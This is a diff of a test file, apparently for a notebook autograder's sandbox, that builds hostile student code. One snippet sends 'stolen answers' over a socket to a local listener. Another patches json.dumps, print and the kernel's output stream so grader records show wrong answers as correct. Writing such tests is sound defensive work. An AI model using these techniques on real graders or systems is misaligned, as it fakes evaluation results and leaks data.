@@ -112,24 +112,22 @@ def hostile(tmp_path_factory, sandbox_works):
                f"    connection = socket.create_connection(('127.0.0.1', {listener.port}), timeout=3)\n"
                "    connection.sendall(b'stolen answers')\n    sent = 'sent'\n"
                "except OSError as error:\n    sent = type(error).__name__\n")
+    # a record that says "xor_answer is 'c'" where it says the answer is not set: json.dumps and
+    # print rewrite it (the old grader printed its records with them), and sys.stdout.write too
     forger = ("import builtins, json, sys\n"
-              "real_print, real_write = builtins.print, sys.stdout.write\n"
+              "from ipykernel.iostream import OutStream\n"
+              "real_dumps, real_print, real_write = json.dumps, builtins.print, OutStream.write\n"
               "def forged_dumps(value, *args, **kwargs):\n"
-              "    return '{\"value\": \"c\", \"is_ellipsis\": false}'\n"
-              "json.dumps = forged_dumps\n"
-              "json.loads = lambda text, *args, **kwargs: {'value': 'c', 'is_ellipsis': False}\n"
+              "    if isinstance(value, dict) and 'is_ellipsis' in value:\n"
+              "        value = {'value': 'c', 'is_ellipsis': False}\n"
+              "    return real_dumps(value, *args, **kwargs)\n"
+              "def forge(text):\n"
+              "    return text.replace('\"value\": {\"__unsupported__\": \"ellipsis\"}, \"is_ellipsis\": true',\n"
+              "                        '\"value\": \"c\", \"is_ellipsis\": false')\n"
               "def forged_print(*values, **kwargs):\n"
-              "    text = ' '.join(map(str, values))\n"
-              "    if 'NNCOURSE' in text or 'GRADE' in text:\n"
-              "        text = text.split(':')[0] + ':{\"value\": \"c\", \"is_ellipsis\": false}'\n"
-              "    real_print(text, **kwargs)\n"
-              "builtins.print = forged_print\n"
-              "builtins.repr = lambda value: \"{'value': 'c', 'is_ellipsis': False}\"\n"
-              "class Forged:\n"
-              "    def write(self, text):\n"
-              "        return real_write(text.replace('\"is_ellipsis\": true', '\"is_ellipsis\": false'))\n"
-              "    def flush(self):\n        pass\n"
-              "sys.stdout = sys.stderr = Forged()\n")
+              "    real_print(*[forge(str(value)) for value in values], **kwargs)\n"
+              "json.dumps, builtins.print = forged_dumps, forged_print\n"
+              "OutStream.write = lambda self, text: real_write(self, forge(text))\n")
     # what forged the old grader's record: a worker's result line on fd 1, then the worker killed
     forged_line = ('{"rows": [' + ", ".join(
         f'{{"exercise": "{name}", "points": 1, "max_points": 1, "feedback": "passed"}}' for name in solutions())
